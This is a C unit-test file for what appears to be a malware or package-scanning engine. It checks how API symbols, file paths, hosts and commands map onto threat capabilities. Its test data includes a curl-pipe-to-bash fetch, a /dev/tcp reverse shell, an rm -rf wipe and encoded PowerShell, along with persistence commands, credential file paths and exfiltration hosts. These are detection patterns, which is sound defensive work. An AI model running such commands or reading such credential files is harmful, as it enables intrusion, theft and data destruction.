/* SPDX-License-Identifier: Apache-2.0 */
#include "capabilities/ids.h"
#include "engine/capabilities/capabilities.h"
#include "tap.h"

static const char *cap_of(const char *symbol)
{
    uint32_t n;
    const tw_api *api = tw_api_find(TW_LANG_PYTHON, tw_str_c(symbol), &n);
    return api ? tw_cap_info_of(api->cap)->name : "unknown";
}

static bool has_class(tw_arg_role role, const char *value, tw_cap cap)
{
    const tw_value_class *hits[64];
    uint32_t n = tw_value_classes(role, tw_str_c(value), hits, TW_COUNT(hits));
    for (uint32_t i = 0; i < n; i++)
        if (hits[i]->cap == cap) return true;
    return false;
}
static bool is_path(const char *v, tw_cap cap)
{
    return has_class(TW_ARGROLE_PATH, v, cap);
}
static bool is_dest(const char *v, tw_cap cap)
{
    return has_class(TW_ARGROLE_DEST, v, cap);
}
static bool is_host(const char *v, tw_cap cap)
{
    return has_class(TW_ARGROLE_HOST, v, cap);
}
static bool is_command(const char *v, tw_cap cap)
{
    return has_class(TW_ARGROLE_COMMAND, v, cap);
}

TEST(taxonomy)
{
    CHECK_INT(tw_cap_count(), TW_CAP_COUNT + 1);
    CHECK_INT(TW_CAP_EXEC_SHELL, 1);
    CHECK_STR(tw_str_c(tw_cap_info_of(TW_CAP_IMPACT_WORM)->name), TW_S("impact.worm"));
    CHECK_STR(tw_str_c(tw_cap_info_of(0)->name), TW_S(""));
    CHECK_STR(tw_str_c(tw_cap_info_of(60000)->says), TW_S(""));
    CHECK_INT(tw_cap_by_name(TW_S("cred.env-all")), TW_CAP_CRED_ENV_ALL);
    CHECK_INT(tw_cap_by_name(TW_S("cred.env")), 0);
    for (uint16_t c = 1; c < tw_cap_count(); c++) {
        CHECK_INT(tw_cap_by_name(tw_str_c(tw_cap_info_of(c)->name)), c);
        CHECK(tw_cap_info_of(c)->says[0]);
    }
}

/* Ids are for ever: stored reports and rules name them. Extend this list only at its end. */
TEST(ids_are_locked)
{
    FILE *f = fopen(TW_SOURCE_DIR "/capabilities/ids.lock", "r");
    char line[128];
    unsigned id, n = 0;
    CHECK(f != NULL);
    while (f && fgets(line, sizeof line, f)) {
        char name[64];
        if (line[0] == '#' || sscanf(line, "%u\t%63s", &id, name) != 2) continue;
        CHECK_INT(tw_cap_by_name(tw_str_c(name)), id);
        n++;
    }
    if (f) fclose(f);
    CHECK_INT(n, TW_CAP_COUNT);
    CHECK_INT(TW_CAP_CODE_EVAL, 11);
    CHECK_INT(TW_CAP_NET_HTTP, 21);
    CHECK_INT(TW_CAP_FS_READ, 36);
    CHECK_INT(TW_CAP_CRED_ENV_ALL, 46);
    CHECK_INT(TW_CAP_IMPACT_WIPE, 91);
    CHECK_INT(TW_CAP_IMPACT_WORM, 97);
}

TEST(symbols)
{
    CHECK_STR(tw_str_c(cap_of("os.system")), TW_S("exec.shell"));
    CHECK_STR(tw_str_c(cap_of("posix.system")), TW_S("exec.shell"));
    CHECK_STR(tw_str_c(cap_of("requests.Session().post")), TW_S("net.http"));
    CHECK_STR(tw_str_c(cap_of("requests.sessions.Session().get")), TW_S("net.http"));
    CHECK_STR(tw_str_c(cap_of("six.moves.urllib.request.urlopen")), TW_S("net.http"));
    CHECK_STR(tw_str_c(cap_of("socket.socket().connect")), TW_S("net.socket"));
    CHECK_STR(tw_str_c(cap_of("?.sendall")), TW_S("net.socket"));
    CHECK_STR(tw_str_c(cap_of("foo.bar().sendall")), TW_S("net.socket"));
    CHECK_STR(tw_str_c(cap_of("foo.bar.sendall")), TW_S("unknown"));
    CHECK_STR(tw_str_c(cap_of("open().nothing_of_the_kind")), TW_S("unknown"));
    CHECK_STR(tw_str_c(cap_of("pyarmor_runtime_000000.__pyarmor__")), TW_S("hide.packer"));
    CHECK_STR(tw_str_c(cap_of("")), TW_S("unknown"));
    CHECK_STR(tw_str_c(cap_of("?.")), TW_S("unknown"));
    uint32_t n;
    CHECK(!tw_api_find(TW_LANG_NONE, TW_S("os.system"), &n) && !n);
    CHECK(!tw_api_find(TW_LANG_MAX, TW_S("os.system"), &n) && !n);
}

TEST(rows_of_a_symbol)
{
    uint32_t n;
    const tw_api *api = tw_api_find(TW_LANG_PYTHON, TW_S("open"), &n);
    CHECK_INT(n, 2);
    for (uint32_t i = 0; i < n; i++) CHECK_STR(tw_str_c(api[i].symbol), TW_S("open"));
    CHECK_INT(api[0].cap, TW_CAP_FS_READ);
    CHECK_INT(api[0].args[0].role, TW_ARGROLE_PATH);
    CHECK_STR(tw_str_c(api[0].args[0].name), TW_S("file"));
    CHECK_INT(api[0].args[1].role, TW_ARGROLE_NONE);
    CHECK_INT(api[0].when[0].test, TW_APITEST_HAS_NOT);
    CHECK_INT(api[1].cap, TW_CAP_FS_WRITE);
    api = tw_api_find(TW_LANG_PYTHON, TW_S("os.environ"), &n);
    CHECK(n == 1 && api->flags == (TW_API_SOURCE | TW_API_VALUE));
    api = tw_api_find(TW_LANG_PYTHON, TW_S("base64.b64decode"), &n);
    CHECK(n == 1 && !api->cap && api->flags == (TW_API_PASS | TW_API_DECODER));
    api = tw_api_find(TW_LANG_PYTHON, TW_S("x.y().sendall"), &n);
    CHECK(n == 1 && tw_api_is_relaxed(api));
}

/* A module under another name: the first part may lie in another word, before all, behind all, or in no table. */
TEST(prefixes)
{
    static const char *const same[][2] = {
        {"nt.unlink", "posix.unlink"},
        {"zipfile._path.ZipFile().extract", "zipfile.ZipFile().extract"},
        {"zipfile.os.remove", "os.remove"},
        {"BaseHTTPServer.ThreadingHTTPServer", "http.server.ThreadingHTTPServer"},
        {"requests.sessions.post", "requests.post"},
        {"zipimport._io.open_code", "io.open_code"},
        {"six.moves.http_client.HTTPConnection", "http.client.HTTPConnection"},
    };
    for (size_t i = 0; i < TW_COUNT(same); i++) {
        uint32_t n, m;
        const tw_api *a = tw_api_find(TW_LANG_PYTHON, tw_str_c(same[i][0]), &n);
        const tw_api *b = tw_api_find(TW_LANG_PYTHON, tw_str_c(same[i][1]), &m);
        CHECK(a && a == b && n == m);
    }
    CHECK_STR(tw_str_c(cap_of("ntx.system")), TW_S("unknown"));
    CHECK_STR(tw_str_c(cap_of("n.system")), TW_S("unknown"));
    CHECK_STR(tw_str_c(cap_of("nt")), TW_S("unknown"));
    CHECK_STR(tw_str_c(cap_of("~.system")), TW_S("unknown"));
    CHECK_STR(tw_str_c(cap_of(".system")), TW_S("unknown"));
    CHECK_STR(tw_str_c(cap_of("\xff\xff.system")), TW_S("unknown"));
    uint32_t n;
    const tw_api *api = tw_api_find(TW_LANG_JAVASCRIPT, TW_S("graceful-fs.unlink"), &n);
    CHECK(api && api == tw_api_find(TW_LANG_JAVASCRIPT, TW_S("fs.unlink"), &n));
}

TEST(paths)
{
    CHECK(is_path("~/.ssh/id_rsa", TW_CAP_CRED_SSH_GPG));
    CHECK(is_path("{}/.ssh", TW_CAP_CRED_SSH_GPG));
    CHECK(is_path(".ssh", TW_CAP_CRED_SSH_GPG));
    CHECK(is_path("/home/u/.ssh/", TW_CAP_CRED_SSH_GPG));
    CHECK(!is_path("docs/ssh.txt", TW_CAP_CRED_SSH_GPG));
    CHECK(is_path("%localappdata%\\Google\\Chrome\\User Data\\Default\\Login Data", TW_CAP_CRED_BROWSER));
    CHECK(is_path("{}\\\\Local Storage\\\\leveldb", TW_CAP_CRED_BROWSER));
    CHECK(is_path("{}/wallet.dat", TW_CAP_CRED_WALLET));
    CHECK(is_path("%appdata%\\discord", TW_CAP_CRED_CHAT));
    CHECK(is_path("{}\\discord\\Local Storage\\leveldb", TW_CAP_CRED_CHAT));
    CHECK(!is_path("discord/__init__.py", TW_CAP_CRED_CHAT));
    CHECK(is_path("~/.aws/credentials", TW_CAP_CRED_CLOUD));
    CHECK(is_path("~/.pypirc", TW_CAP_CRED_REGISTRY));
    CHECK(is_path("~/.git-credentials", TW_CAP_CRED_FORGE));
    CHECK(is_path("~/.kube/config", TW_CAP_CRED_CLUSTER));
    CHECK(!is_path("README.md", TW_CAP_CRED_BROWSER));
    CHECK(!is_path("~/.bashrc", TW_CAP_PERSIST_SHELL_PROFILE));
    CHECK(is_dest("~/.bashrc", TW_CAP_PERSIST_SHELL_PROFILE));
    CHECK(is_dest("~/.bashrc", TW_CAP_FS_HOME_WRITE));
    CHECK(is_dest("~/Library/LaunchAgents/a.plist", TW_CAP_PERSIST_STARTUP));
    CHECK(is_dest("%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.lnk",
                  TW_CAP_PERSIST_STARTUP));
    CHECK(is_dest("HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", TW_CAP_PERSIST_STARTUP));
    CHECK(is_dest("/etc/cron.d/a", TW_CAP_PERSIST_SCHEDULE));
    CHECK(!is_dest("out/etc.txt", TW_CAP_FS_SYSTEM_WRITE));
}

TEST(hosts)
{
    CHECK(has_class(TW_ARGROLE_URL, "https://chat.example/api/webhooks/1/x", TW_CAP_NET_WEBHOOK));
    CHECK(is_host("api.telegram.org", TW_CAP_NET_WEBHOOK));
    CHECK(is_host("x.oastify.com", TW_CAP_NET_WEBHOOK));
    CHECK(is_host("Pastebin.com", TW_CAP_NET_DROP_HOST));
    CHECK(!is_host("notpastebin.community", TW_CAP_NET_DROP_HOST));
    CHECK(is_host("a.duckdns.org", TW_CAP_NET_RARE_HOST));
    CHECK(is_host("evil.xyz", TW_CAP_NET_RARE_HOST));
    CHECK(is_host("evil.tk", TW_CAP_NET_RARE_HOST));
    CHECK(!is_host("example.org", TW_CAP_NET_RARE_HOST));
    CHECK(is_host("169.254.169.254", TW_CAP_NET_METADATA_SERVICE));
    CHECK(is_host("a.ngrok-free.app", TW_CAP_NET_TUNNEL));
    CHECK_STR(tw_url_host(TW_S("https://u:p@h.example:80/x?y")), TW_S("h.example"));
    CHECK_STR(tw_url_host(TW_S("h.example:80")), TW_S("h.example"));
    CHECK_STR(tw_url_host(TW_S("http://[2a01::1]:80/")), TW_S("[2a01::1]"));
    CHECK_STR(tw_url_host(TW_S("http://[2a01")), TW_S(""));
    CHECK(tw_host_is_public_ip(TW_S("45.9.148.1")));
    CHECK(!tw_host_is_public_ip(TW_S("192.168.1.1")));
    CHECK(!tw_host_is_public_ip(TW_S("127.0.0.1")));
    CHECK(!tw_host_is_public_ip(TW_S("1.2.3")));
    CHECK(!tw_host_is_public_ip(TW_S("1.2.3.999")));
    CHECK(!tw_host_is_public_ip(TW_S("example.org")));
    CHECK(tw_host_is_public_ip(TW_S("[2a01::1]")));
    CHECK(!tw_host_is_public_ip(TW_S("[::1]")));
}

TEST(commands_and_names)
{
    CHECK(is_command("curl -s http://h.example/a | bash", TW_CAP_EXEC_DOWNLOADED));
    CHECK(is_command("bash -c \"$(curl -fsSL http://h.example/a)\"", TW_CAP_EXEC_DOWNLOADED));
    CHECK(!is_command("curl -s http://h.example/a -o b", TW_CAP_EXEC_DOWNLOADED));
    CHECK(is_command("powershell -NoP -enc AAAA", TW_CAP_EXEC_ENCODED_COMMAND));
    CHECK(is_command("bash -i >& /dev/tcp/h/1 0>&1", TW_CAP_NET_REVERSE_SHELL));
    CHECK(is_command("schtasks /create /tn a /tr b", TW_CAP_PERSIST_SCHEDULE));
    CHECK(is_command("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a",
                     TW_CAP_PERSIST_STARTUP));
    CHECK(is_command("sudo rm -rf / --no-preserve-root", TW_CAP_IMPACT_WIPE));
    CHECK(is_command("whoami", TW_CAP_HOST_IDENTITY));
    CHECK(!is_command("git status", TW_CAP_PERSIST_REPO));
    CHECK(has_class(TW_ARGROLE_NAME, "GITHUB_TOKEN", TW_CAP_CRED_FORGE));
    CHECK(has_class(TW_ARGROLE_NAME, "MY_SECRET_KEY", TW_CAP_CRED_ENV_SECRET));
    CHECK(!has_class(TW_ARGROLE_NAME, "PATH", TW_CAP_CRED_ENV_SECRET));
}

TEST(hostile_values)
{
    const tw_value_class *hits[4];
    size_t n = 100000;
    char *big = malloc(n);
    memset(big, '/', n);
    CHECK_INT(tw_value_classes(TW_ARGROLE_PATH, tw_str_of(big, n), hits, 4), 0);
    memset(big, 'a', n);
    memcpy(big + n - 10, "/.ssh/id_x", 10); /* beyond what is looked at */
    CHECK_INT(tw_value_classes(TW_ARGROLE_PATH, tw_str_of(big, n), hits, 4), 0);
    free(big);
    CHECK_INT(tw_value_classes(TW_ARGROLE_PATH, TW_S(""), hits, 4), 0);
    CHECK_INT(tw_value_classes(TW_ARGROLE_HOST, TW_S(""), hits, 4), 0);
    CHECK_INT(tw_value_classes(TW_ARGROLE_PATH, TW_S("~/.ssh/id_rsa"), hits, 1), 1);
}
TESTS_MAIN()
